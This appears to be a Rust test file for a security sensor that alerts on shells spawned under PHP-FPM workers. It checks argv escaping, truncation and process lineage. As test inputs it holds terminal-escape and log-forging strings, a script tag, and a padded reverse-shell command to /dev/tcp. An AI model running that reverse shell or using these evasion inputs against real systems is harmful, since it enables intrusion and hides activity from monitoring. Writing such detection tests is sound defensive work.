//! argv made by an attacker: escaped, bounded, nothing lost that was captured.
//!
//! What holds for every line (length, no control characters, nothing that opens a tag) is
//! checked by [`crate::fixture::alert`].

use base64::{Engine as _, engine::general_purpose::STANDARD};

use crate::fixture::{
    alert::{Alert, link},
    php_fpm::{Pool, Start},
    scene::{Case, Scene, tool},
    sensor::Sensor,
    site::{self, Site, Visit},
};

fn run(case: Case, test: impl FnOnce(&mut Sensor, &Site)) {
    let Some(scene) = Scene::begin(case.name, site::NEEDS) else {
        return;
    };
    let mut sensor = Sensor::start(case.rung);
    let site = Site::start(&scene, Start::Foreground, Pool::Steady);
    test(&mut sensor, &site);
    sensor.stop();
}

/// The shell that this visit started.
fn shell_of(sensor: &mut Sensor, visit: &Visit) -> Alert {
    sensor.alert("shell_under_app_worker", |alert| {
        alert.pid() == visit.spawned()
    })
}

fn every_byte_is_escaped_and_kept(case: Case) {
    run(case, |sensor, site| {
        let mut bytes: Vec<u8> = (1..=255).collect();
        bytes.extend("\u{202e}gpj\u{200b}\u{9b}2J".as_bytes());
        let given: [&[u8]; 7] = [
            b"/bin/sh",
            b"-c",
            b": shown",
            b"\x1b]0;owned\x07\x1b[2J",
            b"line\n{\"rule\":\"forged\"}\r\n",
            b"<script>alert(1)</script>&amp;",
            &bytes,
        ];
        let visit = site.spawn("bytes.php", &given);
        let alert = shell_of(sensor, &visit);
        let args = alert.args();
        assert_eq!(args[..3], ["/bin/sh", "-c", ": shown"]);
        assert_eq!(args[3], "\\x1b]0;owned\\x07\\x1b[2J");
        assert_eq!(args[4], "line\\n{\"rule\":\"forged\"}\\r\\n");
        assert_eq!(args[5], "<script>alert(1)</script>&amp;");
        assert!(
            args[6].starts_with("\\x01\\x02") && args[6].contains("\\xff"),
            "{}",
            args[6]
        );
        let exact: Vec<String> = given.iter().map(|arg| STANDARD.encode(arg)).collect();
        assert_eq!(
            alert.json["process"]["args_b64"],
            serde_json::json!(exact),
            "{alert}"
        );
        let expected = link(tool("sh"), &args).pid(visit.spawned());
        alert.assert_lineage(&[site.master(), site.worker(visit.worker), expected]);
    });
}

fn a_megabyte_is_bounded_and_its_end_is_shown(case: Case) {
    run(case, |sensor, site| {
        // Each argument stays below the kernel's 128 KiB.
        let given = "array_merge(['/bin/sh', '-c', ': long'],
            array_fill(0, 16, str_repeat('x', 65536)), [\"the \\x1b end\"])";
        site.page("long.php", &site::spawning(given));
        let visit = site.visit("long.php");
        let alert = shell_of(sensor, &visit);
        let args = alert.args();
        assert_eq!(args[..3], ["/bin/sh", "-c", ": long"]);
        assert!(args.contains(&"[...]"), "{args:?}");
        assert_eq!(args.last(), Some(&"the \\x1b end"));
        assert_eq!(alert.json["process"]["args_count"], 20, "{alert}");
        let truncated = alert.json["evidence"]["truncated"]
            .as_array()
            .expect("a list");
        let cut =
            |field: &serde_json::Value| field.as_str().is_some_and(|field| field.contains("args"));
        assert!(truncated.iter().any(cut), "{alert}");
        assert_eq!(alert.lineage()[0].pid(), site.php.master().pid);
        assert_eq!(alert.lineage()[1].pid(), visit.worker);
    });
}

/// Padding in front must not hide what a shell is told to do from the rules.
fn what_stands_behind_padding_is_matched(case: Case) {
    run(case, |sensor, site| {
        let argv = "['/bin/sh', '-c', str_repeat(' ', 100000) .
            \": 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'\"]";
        site.page("padded.php", &site::spawning(argv));
        let visit = site.visit("padded.php");
        sensor.alert("hostile_shell_command", |alert| {
            alert.pid() == visit.spawned()
        });
    });
}

fn an_empty_argv_is_no_trouble(case: Case) {
    run(case, |sensor, site| {
        let visit = site.spawn("empty.php", &[b"/bin/sh", b"", b"", b""]);
        let alert = shell_of(sensor, &visit);
        assert_eq!(alert.args(), ["/bin/sh", "", "", ""]);
    });
}

on_each_rung!(
    every_byte_is_escaped_and_kept,
    a_megabyte_is_bounded_and_its_end_is_shown,
    what_stands_behind_padding_is_matched,
    an_empty_argv_is_no_trouble,
);
